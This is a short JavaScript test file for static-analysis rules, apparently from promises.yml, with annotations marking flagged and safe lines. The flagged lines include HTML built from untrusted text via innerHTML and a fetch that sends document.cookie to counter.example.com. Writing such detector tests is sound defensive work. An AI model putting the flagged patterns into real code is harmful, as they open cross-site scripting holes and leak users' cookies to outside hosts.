// What the rules of promises.yml find in scripts (ruleid), and what they leave alone (ok).
const show = (place, title) => {
  // ruleid: script-makes-markup-of-text
  place.innerHTML = `<b>${title}</b>`;
  // ruleid: script-makes-markup-of-text
  place.insertAdjacentHTML("beforeend", title);
  // ok: script-makes-markup-of-text
  place.textContent = title;
};

const tell = async () => {
  // ruleid: script-follows-someone
  const seen = document.cookie;
  // ruleid: script-follows-someone
  await fetch("https://counter.example.com/visit");
  // ruleid: script-follows-someone
  await fetch(`https://counter.example.com/${seen}`);
  // ok: script-follows-someone
  await fetch(`${location.pathname}/visit`, { method: "POST" });
};
